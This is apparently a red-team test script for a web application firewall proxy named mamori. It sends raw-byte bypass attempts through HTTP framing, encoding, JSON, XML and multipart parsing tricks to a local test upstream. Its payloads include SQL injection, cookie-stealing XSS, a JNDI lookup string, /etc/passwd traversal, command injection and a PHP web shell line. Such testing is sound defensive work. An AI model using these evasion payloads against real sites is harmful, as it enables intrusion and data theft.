// Bypass attempts against `mamori up` (CRS 4.28.0, paranoia 1, blocking), sent as raw bytes: framing
// (chunked, trailers, Expect, HTTP/1.0, keep-alive, pipelining), paths (encoded slashes, overlong
// UTF-8, %u, `;`), content types (JSON escapes/BOM/comments, XML CDATA, multipart games, charsets),
// headers (duplicates, obs-fold), compression and the body/argument limits. A FINDING is an attack
// payload the upstream received while mamori answered 200. OK lines say what mamori answered; INFO
// lines, a payload in a part that both mamori and the common upstream readers (PHP, busboy) read as
// a file. The multipart cases marked `PHP:` follow php-src main/rfc1867.c, which takes a
// Content-Disposition parameter's name up to `=` as written: `filename ="a"` names no file there.
//
//   node bench/redteam/waf-proxy-bypass-battery.mjs [filter]
import { gzipSync } from 'node:zlib';
import { startUpstream, startMamori, raw, rawReq, report, results } from './waf-proxy-lib.mjs';

const filter = process.argv[2] ?? '';
const SQLI = "1' UNION SELECT username,password FROM users--";
const XSS = '<script>alert(document.cookie)</script>';
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const enc = encodeURIComponent;
const chunked = (body, ext = '') => `${body.length.toString(16)}${ext}\r\n${body}\r\n0\r\n\r\n`;
const mp = (b, parts, end = `--${b}--\r\n`) => parts.map(([head, content]) => `--${b}\r\n${head}\r\n\r\n${content}\r\n`).join('') + end;

/** Each case: name, bytes (one Buffer, or a list sent apart), needle (what must not reach the upstream). */
const cases = [
  ['chunked form body', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked' }, body: chunked(`q=${enc(SQLI)}`) }), 'UNION%20SELECT'],
  ['chunked with a chunk extension', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked' }, body: chunked(`q=${enc(SQLI)}`, ';x=1') }), 'UNION%20SELECT'],
  ['chunked in many 1-byte chunks', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked' }, body: `${[...`q=${enc(XSS)}`].map((c) => `1\r\n${c}\r\n`).join('')}0\r\n\r\n` }), 'alert'],
  ['payload in a chunked trailer', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked', Trailer: 'X-Q' }, body: `3\r\na=1\r\n0\r\nX-Q: ${SQLI}\r\n\r\n` }), 'UNION SELECT'],
  ['Expect: 100-continue, body after the 100', [rawReq({ method: 'POST', headers: { ...FORM, Expect: '100-continue', 'Content-Length': String(`q=${enc(SQLI)}`.length) } }), Buffer.from(`q=${enc(SQLI)}`)], 'UNION%20SELECT'],
  ['HTTP/1.0 with a body', rawReq({ method: 'POST', version: 'HTTP/1.0', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['HTTP/1.0 body without Content-Length (read to close)', rawReq({ method: 'POST', version: 'HTTP/1.0', headers: { ...FORM, Connection: null }, body: `q=${enc(SQLI)}`, noLength: true, close: false }), 'UNION%20SELECT'],
  ['keep-alive: benign then attack on one connection', [rawReq({ target: '/a', close: false }), rawReq({ target: `/b?id=${enc(SQLI)}` })], 'UNION%20SELECT'],
  ['pipelined: benign and attack in one write', Buffer.concat([rawReq({ target: '/a', close: false }), rawReq({ target: `/b?id=${enc(SQLI)}` })]), 'UNION%20SELECT'],
  ['pipelined after a body: CL covers a benign body, attack follows', Buffer.concat([rawReq({ method: 'POST', headers: FORM, body: 'a=1', close: false }), rawReq({ method: 'POST', headers: FORM, body: `q=${enc(XSS)}` })]), 'alert'],
  ['obs-fold continuation carrying the payload', Buffer.from(`GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\nX-A: b\r\n ${SQLI}\r\nConnection: close\r\n\r\n`, 'latin1'), 'UNION SELECT'],
  ['Transfer-Encoding with a vertical tab', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': '\x0bchunked' }, body: chunked(`q=${enc(SQLI)}`) }), 'UNION%20SELECT'],
  ['payload in a second User-Agent (Node keeps the first)', rawReq({ headers: [['User-Agent', 'Mozilla/5.0'], ['User-Agent', '${jndi:ldap://x/a}']] }), 'jndi'],
  ['payload in a second Cookie header', rawReq({ headers: [['Cookie', 'a=1'], ['Cookie', `b=${enc(SQLI)}`]] }), 'UNION%20SELECT'],
  ['encoded slashes in the path', rawReq({ target: '/static/..%2f..%2f..%2fetc%2fpasswd' }), 'etc%2fpasswd'],
  ['double-encoded traversal in the query', rawReq({ target: '/dl?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd' }), 'etc%252fpasswd'],
  ['overlong UTF-8 dots', rawReq({ target: '/dl?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' }), 'etc/passwd'],
  ['%u-encoded traversal', rawReq({ target: '/dl?f=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd' }), 'passwd'],
  ['backslash traversal in the query', rawReq({ target: '/dl?f=..%5c..%5c..%5cwindows%5cwin.ini' }), 'win.ini'],
  [';-separated query payload', rawReq({ target: `/s?a=1;q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['path parameter payload', rawReq({ target: `/item;id=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['SQLi in a path segment (Express /item/:id)', rawReq({ target: `/api/item/${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['SQLi in a path segment, tautology', rawReq({ target: `/api/users/${enc("1' OR '1'='1")}` }), "OR%20'1'%3D'1"],
  ['XSS in a path segment', rawReq({ target: `/profile/${enc('<img src=x onerror=alert(1)>')}` }), 'onerror'],
  ['command injection in a path segment', rawReq({ target: `/api/ping/${enc('127.0.0.1;cat /etc/passwd')}` }), 'cat%20%2Fetc%2Fpasswd'],
  ['JSON with \\u-escaped XSS', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"t":"\\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e"}' }), 'u003cscript'],
  ['JSON with a BOM', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `\xef\xbb\xbf{"q":"${SQLI}"}` }), 'UNION SELECT'],
  ['JSON with a comment (JSON5 readers)', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{/*x*/"q":"${SQLI}"}` }), 'UNION SELECT'],
  ['JSON, payload as a key', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{"${XSS}":1}` }), 'alert'],
  ['JSON under application/vnd.api+json', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/vnd.api+json' }, body: `{"q":"${SQLI}"}` }), 'UNION SELECT'],
  ['JSON with a duplicate key (last wins in JSON.parse)', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{"q":"ok","q":"${SQLI}"}` }), 'UNION SELECT'],
  ['JSON sent as text/plain (sendBeacon)', rawReq({ method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: `{"q":"${SQLI}"}` }), 'UNION SELECT'],
  ['JSON body without a Content-Type', rawReq({ method: 'POST', body: `{"q":"${SQLI}"}` }), 'UNION SELECT'],
  ['form body without a Content-Type', rawReq({ method: 'POST', body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['XML with the payload in CDATA', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/xml' }, body: `<a><q><![CDATA[${XSS}]]></q></a>` }), 'alert'],
  ['XML split by a comment', rawReq({ method: 'POST', headers: { 'Content-Type': 'text/xml' }, body: '<a><q>&lt;scr<!-- -->ipt&gt;alert(document.cookie)&lt;/script&gt;</q></a>' }), 'alert'],
  ['XML in UTF-16 (BOM and declaration; libxml2 and Java decode it)', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/xml' }, body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><a><q>${SQLI}</q></a>`, 'utf16le')]) }), 'U\x00N\x00I\x00O\x00N'],
  ['JSON in UTF-16LE without a BOM', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: Buffer.from(`{"q":"${SQLI}"}`, 'utf16le') }), 'U\x00N\x00I\x00O\x00N'],
  ['JSON with \\ud800 before the payload', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{"q":"\\ud800${SQLI}"}` }), 'UNION SELECT'],
  ['JSON with the key escaped (\\u0071 is q)', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{"q":"ok","\\u0071":"${SQLI}"}` }), 'UNION SELECT'],
  ['multipart field', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"', SQLI]]) }), 'UNION SELECT'],
  ['multipart, the payload in a part with filename=""', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename=""', SQLI]]) }), 'UNION SELECT', 'file'],
  ['multipart, FILENAME upper case', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; FILENAME="a.txt"', SQLI]]) }), 'UNION SELECT', 'file'],
  ['multipart, a file part with text/plain holding a second multipart', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain', mp('inner', [['Content-Disposition: form-data; name="q"', SQLI]])]]) }), 'UNION SELECT'],
  ['multipart, xfilename= (a reader matching filename= as a substring)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; xfilename="a.txt"', SQLI]]) }), 'UNION SELECT'],
  ['multipart, filename in the part\'s Content-Type', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"\r\nContent-Type: text/plain; filename="a.txt"', SQLI]]) }), 'UNION SELECT'],
  ['multipart, filename with a space before =', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename ="a.txt"', SQLI]]) }), 'UNION SELECT'],
  ['multipart, filename= with a tab before = (PHP: key up to = as written)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename\t="a.txt"', SQLI]]) }), 'UNION SELECT'],
  ['multipart, filename without a value (PHP: key up to = as written)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename', SQLI]]) }), 'UNION SELECT'],
  ['multipart, filename= empty and unquoted (PHP: key up to = as written)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename=', SQLI]]) }), 'UNION SELECT', 'file'],
  ['multipart, filename with a space after = (PHP: key up to = as written)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename= "a.txt"', SQLI]]) }), 'UNION SELECT', 'file'],
  ['multipart, name with a space before = (PHP: key up to = as written)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name ="q"; filename="a.txt"', SQLI]]) }), 'UNION SELECT', 'file'],
  ['multipart, filename first, then name (PHP: key up to = as written)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; filename="a.txt"; name="q"', SQLI]]) }), 'UNION SELECT', 'file'],
  ['multipart, filename unterminated quote (PHP: key up to = as written)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename="a.txt', SQLI]]) }), 'UNION SELECT'],
  // PHP (main/rfc1867.c) takes the boundary after the first "boundary" anywhere in the Content-Type, then
  // '='; mamori takes the `; boundary=` parameter. A second multipart, delimited by PHP's boundary
  // (of another length, which mamori's unmatchedBoundary check does not look for), sits in a file part.
  ['multipart, PHP reads another boundary (type=boundary=AAAA; boundary=BBB)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; type=boundary=AAAA; boundary=BBB' }, body: mp('BBB', [['Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain', `--AAAA\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQLI}\r\n--AAAA--`]]) }), 'UNION SELECT'],
  ['multipart, PHP reads another boundary (PHPboundaryPHP=AAAA; boundary=BBB, the published shape)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; PHPboundaryPHP=AAAA; boundary=BBB' }, body: mp('BBB', [['Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain', `--AAAA\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQLI}\r\n--AAAA--`]]) }), 'UNION SELECT'],
  ['multipart, the inner multipart alone, same boundary length (control for the check)', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; type=boundary=AAA; boundary=BBB' }, body: mp('BBB', [['Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain', `--AAA\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQLI}\r\n--AAA--`]]) }), 'UNION SELECT'],
  ['multipart, name inside the filename value', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; filename="; name=q"; name="f"', SQLI]]) }), 'UNION SELECT'],
  ['multipart, Content-Disposition attachment', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: attachment; name="q"', SQLI]]) }), 'UNION SELECT'],
  ['multipart, part Content-Transfer-Encoding base64', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: base64', Buffer.from(SQLI).toString('base64')]]) }), Buffer.from(SQLI).toString('base64')],
  ['multipart, quoted-printable part', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: quoted-printable', "1=27 UNION SELECT username,password FROM users--"]]) }), '1=27 UNION'],
  ['multipart, file part as a big file then the payload in a file-looking field', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="avatar"; filename="a.png"\r\nContent-Type: image/png', `\x89PNG ${SQLI} <?php system($_GET[c]); ?>`]]) }), 'system($_GET'],
  ['multipart boundary upper-case parameter name', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; BOUNDARY=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"', SQLI]]) }), 'UNION SELECT'],
  ['multipart with charset=utf-7 part', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=utf-7', '+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-']]) }), 'alert'],
  ['form with charset=utf-7', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=utf-7' }, body: 'q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-' }), 'ADw-script'],
  ['form with charset=ibm037', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=ibm037' }, body: '%A8=%4C%A2%83%99%89%97%A3%6E' }), '%A2%83%99'],
  ['gzip form body', rawReq({ method: 'POST', headers: { ...FORM, 'Content-Encoding': 'gzip' }, body: gzipSync(`q=${enc(SQLI)}`) }), 'q='],
  ['deflate with an odd-case encoding name', rawReq({ method: 'POST', headers: { ...FORM, 'Content-Encoding': ' GZip ' }, body: gzipSync(`q=${enc(SQLI)}`) }), 'q='],
  ['payload after 128 KiB of form body (no-files limit)', rawReq({ method: 'POST', headers: FORM, body: `a=${'b'.repeat(131_072)}&q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['payload as argument 1001 (argument limit)', rawReq({ method: 'POST', headers: FORM, body: `${Array.from({ length: 1000 }, (_, i) => `a${i}=1`).join('&')}&q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['payload after 1 MiB of file in multipart', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="f"; filename="a.bin"\r\nContent-Type: application/octet-stream', 'A'.repeat(1 << 20)], ['Content-Disposition: form-data; name="q"', SQLI]]) }), 'UNION SELECT'],
  ['JSON deeper than 512', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `${'['.repeat(600)}"${SQLI}"${']'.repeat(600)}` }), 'UNION SELECT'],
  ['GET with a form body', rawReq({ method: 'GET', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['method override header', rawReq({ method: 'POST', target: `/x?q=1`, headers: { ...FORM, 'X-HTTP-Method-Override': 'PUT' }, body: `q=${enc(XSS)}` }), 'alert'],
  ['lower-case method', rawReq({ method: 'post', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['/.mamori/challenge POST with a payload', rawReq({ method: 'POST', target: '/.mamori/challenge', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
  ['/.mamori/challenge GET with a payload', rawReq({ target: `/.mamori/challenge?q=${enc(SQLI)}` }), 'UNION%20SELECT'],
];

const up = await startUpstream();
// block_sources off: otherwise the harness's own address is blocked after 10 refusals and every later case reads 403.
const m = await startMamori(up.url, { waf: { block_sources: { after: 0 } } });
try {
  for (const [name, bytes, needle, note] of cases) {
    if (filter && !name.includes(filter)) continue;
    const before = up.seen.length;
    const r = await raw(m.port, bytes, { timeoutMs: 4000 });
    const got = up.seen.slice(before).filter((s) => s.url.includes(needle) || s.rawHeaders.join('\n').includes(needle) || s.body.toString('latin1').includes(needle) || s.trailers.join('\n').includes(needle));
    const passed = got.length > 0 && r.statuses.includes(200);
    if (passed && note === 'file') {
      // A file part for mamori and for PHP's and busboy's readers alike: its content is a file's, which no
      // paranoia-1 rule reads (as with ModSecurity); not a disagreement between readers.
      console.log(`INFO    ${name} -- a file part for the upstream's reader too: statuses ${JSON.stringify(r.statuses)}`);
      continue;
    }
    report(!passed, name, `statuses ${JSON.stringify(r.statuses)}${got.length ? `; upstream got ${JSON.stringify(got.map((g) => `${g.method} ${g.url} ${g.body.length}B`)).slice(0, 200)}` : ''}`);
  }
} finally {
  await m.stop();
  await up.close();
}
console.log(`${results.findings} finding(s)`);
